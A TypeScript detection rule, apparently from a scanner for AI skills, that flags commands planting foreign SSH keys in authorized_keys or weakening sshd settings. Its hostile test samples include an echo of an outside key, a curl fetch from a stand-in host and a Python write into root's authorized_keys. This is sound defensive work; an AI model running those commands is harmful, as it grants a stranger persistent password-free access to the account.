import { any, seen, several, unless } from "../matchers.ts";
import type { Rule } from "../rule.ts";

const added = several(
  ["keys"],
  /(?:>>|\btee\s-a\b|\badd-content\b|\bopen\(|\bappendfile(?:sync)?\()\s{0,3}["']?[^\s"']{0,60}authorized_keys\b/,
  /\bssh-(?:rsa|ed25519|dss)\saaaa[^\n]{0,800}authorized_keys/,
);
/** Somebody puts his own public key on his own server. */
const ownKey = seen(/\bid_\w{2,10}\.pub\b|\bssh-copy-id\b|\byour[_ -]public[_ -]key\b/, "pub", "copy", "your");

/** A key that is fetched is let in at the forge. */
const fetchedKey = seen(
  /\b(?:deploy-key|ssh-key)\sadd\b[^\n]{0,60}(?:\bcurl\b|\bwget\b|https?:)|\bssh-import-id\s/,
  "key",
  "import",
);
const config = seen(
  /\b(?:permitrootlogin yes|permitemptypasswords yes|authorizedkeysfile)\b/,
  "permitrootlogin",
  "permitemptypasswords",
  "authorizedkeysfile",
);

export const foreignLogin: Rule = {
  id: "persist.ssh",
  level: "high",
  title: "lets a foreign key log in",
  why: "A key in authorized_keys opens the account to its owner from then on, without a password and without a trace in the skill. Refuse keys that the skill brings along.",
  match: unless(any(added, config, fetchedKey), ownKey, 160),
  hostile: [
    "```bash\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA ops' >> ~/.ssh/authorized_keys\n```",
    "```bash\ncurl -s https://k.example.net/k.txt >> ~/.ssh/authorized_keys\n```",
    "```python\nopen('/root/.ssh/authorized_keys', 'a').write(KEY)\n```",
  ],
  benign: [
    "```bash\ncat ~/.ssh/id_ed25519.pub | ssh me@host.example.com 'cat >> ~/.ssh/authorized_keys'\n```",
    "```bash\nssh-copy-id me@host.example.com\n```",
    "Check who may log in: `cat ~/.ssh/authorized_keys`.",
  ],
};
